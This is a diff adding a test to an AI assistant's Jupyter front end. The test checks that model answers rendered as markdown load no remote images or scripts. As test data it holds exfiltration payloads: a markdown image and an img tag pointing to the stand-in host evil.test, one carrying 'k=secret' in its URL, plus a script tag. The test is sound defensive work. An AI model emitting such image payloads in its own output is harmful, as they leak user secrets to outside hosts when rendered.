@@ -450,6 +450,23 @@ def test_the_panel_never_renders_remote_resources_or_scripts_from_model_output(l
     assert "<img" not in restored and "<script" not in restored
 
 
+async def test_an_answer_shown_as_markdown_loads_nothing_remote(llm, make_assistant):
+    """A front end renders ``text/markdown`` itself (raw HTML on, as JupyterLab's renderer): an
+    answer's images and HTML must arrive inert there too, with its code blocks untouched."""
+    from markdown_it import MarkdownIt
+
+    answer = (
+        "See ![chart](http://evil.test/?k=secret) and <img src='http://evil.test/x'> <script>alert(1)</script>\n\n"
+        "```python\nif a < b:\n    pass\n```\n"
+    )
+    llm.queue(intent("question"), answer)
+    result = await make_assistant("openai").arun("how do I compare values?")
+    rendered = MarkdownIt("commonmark", {"html": True}).render(result._repr_markdown_())
+    assert "<img" not in rendered and "<script" not in rendered
+    assert '<a href="http://evil.test/?k=secret">chart</a>' in rendered  # a link: nothing loads until clicked
+    assert "if a &lt; b:" in rendered  # the code block is shown exactly as written
+
+
 def test_raw_html_links_images_and_styles_are_sanitised():
     from lfassist_jupyter.ui.messages import render_markdown
 
